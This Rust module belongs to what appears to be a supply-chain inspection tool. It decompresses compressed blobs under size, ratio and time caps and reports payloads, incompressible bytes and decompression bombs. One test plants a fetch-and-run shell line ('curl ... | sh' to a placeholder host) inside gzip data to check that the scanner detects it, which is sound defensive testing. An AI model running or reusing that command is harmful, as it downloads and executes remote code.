//! What a compressed blob decompresses to, within the limits (64 MiB out,
//! release verification's expansion cap, a few seconds): its payload
//! findings, its incompressible bytes, and how decompressing ended, in the
//! words the content scan, `rearview hex --decompressed` and the TUI's hex
//! view all use.

use std::io::Read;
use std::time::{Duration, Instant};

use crate::inspect::{self, BlobFacts, BlobScan, Compression, Decompressed, Ending, Finding, Incompressible};
use crate::model::{ContentFinding, ContentKind, Place};
use crate::render::hex::{human_size, SizeStyle};
use crate::render::sanitize::sanitize_line;

/// Longest one blob is decompressed for (xz and zstd fill the 64 MiB cap
/// in well under a second, bzip2 in about two).
pub const TIME_CAP: Duration = Duration::from_secs(5);

/// A compressed blob's decompressed bytes, scanned.
#[derive(Debug, Clone)]
pub struct Unpacked {
    /// How decompressing went: format, sizes, why it ended.
    pub done: Decompressed,
    /// Type, entropy and payload findings of what came out.
    pub facts: BlobFacts,
    /// Incompressible bytes in what came out, if enough to matter.
    pub incompressible: Option<Incompressible>,
}

impl Unpacked {
    /// The payload findings worth a look: every one, an executable header
    /// at offset 0 included (data that decompresses to a program is not
    /// data).
    pub fn findings(&self) -> Vec<&Finding> {
        inspect::suspicious(&self.facts.findings, None)
    }
}

/// Decompresses and scans as the bytes come, keeping none (the content scan).
pub fn scan(format: Compression, input: impl Read) -> Unpacked {
    let mut payloads = BlobScan::new(inspect::DECOMPRESSED_CAP, 1);
    let mut dense = inspect::IncompressibleScan::new();
    let done = run(format, input, &mut |_, piece| {
        payloads.feed(piece);
        dense.feed(piece);
    });
    let mut facts = payloads.finish();
    facts.len = done.out;
    Unpacked { done, facts, incompressible: dense.finish() }
}

/// Decompresses into memory, then scans (the hex views): the bytes, and
/// their facts with `marks` entropy marks.
pub fn unpack(format: Compression, input: impl Read, marks: usize) -> (Vec<u8>, Unpacked) {
    let mut bytes = Vec::new();
    let done = run(format, input, &mut |_, piece| bytes.extend_from_slice(piece));
    let mut scan = BlobScan::new(bytes.len() as u64, marks);
    scan.feed(&bytes);
    let unpacked = Unpacked { done, facts: scan.finish(), incompressible: inspect::incompressible(&bytes) };
    (bytes, unpacked)
}

fn run(format: Compression, input: impl Read, sink: &mut dyn FnMut(u64, &[u8])) -> Decompressed {
    let deadline = Instant::now() + TIME_CAP;
    inspect::decompress(format, input, &inspect::Limits::default(), &mut || Instant::now() > deadline, sink)
}

/// `xz stream: 1.2 MiB (1234567 bytes) decompressed from 12.0 KiB`.
pub fn headline(done: &Decompressed, compressed: u64) -> String {
    format!(
        "{} stream: {} decompressed from {}",
        done.format.name(),
        human_size(done.out, SizeStyle::WithExactBytes),
        human_size(compressed, SizeStyle::Brief)
    )
}

/// How decompressing ended, when not at the stream's own end.
pub fn ending_note(done: &Decompressed) -> Option<String> {
    let out = human_size(done.out, SizeStyle::Brief);
    Some(match &done.ending {
        Ending::Complete => return None,
        Ending::Corrupt(why) => {
            format!("corrupt or truncated after {out}: {}; what came before is shown", sanitize_line(why))
        }
        Ending::SizeCap => {
            format!("stopped at the {} cap: the rest was not read", human_size(inspect::DECOMPRESSED_CAP, SizeStyle::Brief))
        }
        Ending::Bomb => format!(
            "a decompression bomb: {out} came out of {} compressed, more than {}:1; stopped there, the rest was not read",
            human_size(done.read, SizeStyle::Brief),
            inspect::MAX_RATIO
        ),
        Ending::TimeCap => {
            format!("stopped after {} s with {out} out: the rest was not read", TIME_CAP.as_secs())
        }
    })
}

/// `decompresses to 48.0 KiB of incompressible bytes (entropy 7.99
/// bits/byte)`; where they start is the finding's offset.
pub fn incompressible_text(found: &Incompressible) -> String {
    let runs = if found.runs > 1 { format!(", {} runs", found.runs) } else { String::new() };
    format!(
        "decompresses to {} of incompressible bytes (entropy {:.2} bits/byte{runs})",
        human_size(found.bytes, SizeStyle::Brief),
        found.entropy
    )
}

/// The content scan's findings for a compressed blob at `path`: a bomb or
/// a cut first, then incompressible bytes, then payloads (offsets in the
/// decompressed bytes).
pub fn content_findings(path: &str, unpacked: &Unpacked) -> Vec<ContentFinding> {
    let finding = |kind, offset, detail: String| ContentFinding {
        kind,
        path: sanitize_line(path),
        line: None,
        column: None,
        offset: Some(offset),
        detail: sanitize_line(&detail),
        place: Place::Decompressed,
    };
    let done = &unpacked.done;
    let mut out = Vec::new();
    let (name, out_size) = (done.format.name(), human_size(done.out, SizeStyle::Brief));
    let stopped = match done.ending {
        Ending::Bomb => Some((
            ContentKind::DecompressionBomb,
            format!(
                "a decompression bomb: the {name} stream gave {out_size} from {} compressed, more than {}:1",
                human_size(done.read, SizeStyle::Brief),
                inspect::MAX_RATIO
            ),
        )),
        Ending::SizeCap => Some((
            ContentKind::DecompressionCut,
            format!(
                "the {name} stream decompresses past the {} cap",
                human_size(inspect::DECOMPRESSED_CAP, SizeStyle::Brief)
            ),
        )),
        Ending::TimeCap => Some((
            ContentKind::DecompressionCut,
            format!("the {name} stream took over {} s to decompress ({out_size} out)", TIME_CAP.as_secs()),
        )),
        Ending::Complete | Ending::Corrupt(_) => None,
    };
    if let Some((kind, detail)) = stopped {
        out.push(finding(kind, done.out, detail));
    }
    if let Some(found) = &unpacked.incompressible {
        out.push(finding(ContentKind::Incompressible, found.offset, incompressible_text(found)));
    }
    for f in unpacked.findings() {
        let detail =
            format!("{} (in the {} stream, decompressed): {}", f.kind.label(), done.format.name(), clip(&f.detail));
        out.push(finding(ContentKind::Payload, f.offset, detail));
    }
    out
}

fn clip(text: &str) -> String {
    const MAX: usize = 80;
    if text.chars().count() <= MAX {
        return text.to_string();
    }
    let cut: String = text.chars().take(MAX).collect();
    format!("{cut}…")
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use super::*;

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(data).expect("gzip");
        encoder.finish().expect("gzip")
    }

    #[test]
    fn a_payload_in_the_stream_is_named_with_its_decompressed_offset() {
        let mut plain = b"test vector 1\n".repeat(100);
        let at = plain.len() as u64;
        plain.extend_from_slice(b"#!/bin/sh\ncurl -s http://x.invalid/a | sh\n");
        let packed = gzip(&plain);
        let unpacked = scan(Compression::Gzip, &packed[..]);
        let findings = content_findings("tests/files/good.gz", &unpacked);
        let shebang = findings.iter().find(|f| f.detail.starts_with("shebang")).expect("the shebang");
        assert_eq!(shebang.offset, Some(at));
        assert_eq!(shebang.place, Place::Decompressed);
        assert!(shebang.detail.starts_with("shebang (in the gzip stream, decompressed): "), "{}", shebang.detail);
        assert!(findings.iter().all(|f| f.kind == ContentKind::Payload), "text compresses: {findings:?}");
        let (bytes, viewed) = unpack(Compression::Gzip, &packed[..], 48);
        assert_eq!(bytes, plain);
        assert_eq!(viewed.findings().len(), unpacked.findings().len());
        assert_eq!(headline(&viewed.done, packed.len() as u64).split(':').next(), Some("gzip stream"));
        assert_eq!(ending_note(&viewed.done), None);
    }

    #[test]
    fn a_corrupt_stream_is_no_finding_but_its_note_says_so() {
        let packed = gzip(&b"abc".repeat(5000));
        let unpacked = scan(Compression::Gzip, &packed[..packed.len() / 2]);
        assert!(content_findings("a.gz", &unpacked).is_empty());
        let note = ending_note(&unpacked.done).expect("a note");
        assert!(note.starts_with("corrupt or truncated after "), "{note}");
    }
}
